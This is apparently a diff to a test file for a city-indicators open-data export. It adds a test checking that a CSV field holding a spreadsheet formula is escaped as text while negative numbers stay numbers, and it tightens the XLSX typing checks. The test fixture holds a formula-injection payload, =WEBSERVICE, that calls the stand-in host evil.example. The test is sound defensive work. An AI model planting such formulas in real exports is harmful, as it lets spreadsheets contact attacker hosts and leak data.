@@ -2,6 +2,7 @@
 without colour and a text alternative, in both languages; and the open data."""
 
 import csv
+import datetime
 import io
 import json
 
@@ -69,6 +70,23 @@ def test_indicators_in_the_open_data(client, measured, city):
     assert [m["value"] for m in record["measurements"]] == ["44", "47.5"]
 
 
+def test_formulas_in_the_open_data_are_text_and_numbers_stay_numbers(client, measured, city):
+    measured.baseline_source = '=WEBSERVICE("http://evil.example")'
+    measured.baseline_value = -3
+    measured.save()
+    response = client.get("/en/results/indicators.csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="')
+    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
+    assert row["baseline_source"] == '\'=WEBSERVICE("http://evil.example")'
+    assert row["baseline"] == "-3"  # a negative number is not a formula
+    response = client.get("/en/results/indicators.json")
+    assert response["Content-Type"] == "application/json; charset=utf-8"
+    assert response["Content-Disposition"].startswith('inline; filename="')
+    (record,) = json.loads(response.content)["indicators"]
+    assert record["baseline_source"] == '=WEBSERVICE("http://evil.example")'  # JSON: as typed
+
+
 def test_indicators_in_the_xlsx_export(client, coordinator, measured):
     from openpyxl import load_workbook
 
@@ -77,7 +95,8 @@ def test_indicators_in_the_xlsx_export(client, coordinator, measured):
     sheet = workbook["Indicators"]
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0][:4] == ("Indicator", "City", "Unit", "Baseline")
-    assert rows[1][0] == "Perception of safety" and rows[1][3] == "41" and rows[1][6] == "47.5"
+    assert rows[1][0] == "Perception of safety" and rows[1][3] == 41 and rows[1][6] == 47.5
+    assert isinstance(rows[1][4], datetime.datetime)  # the baseline date, a date cell
 
 
 @pytest.mark.parametrize("language", ["ca", "lv"])
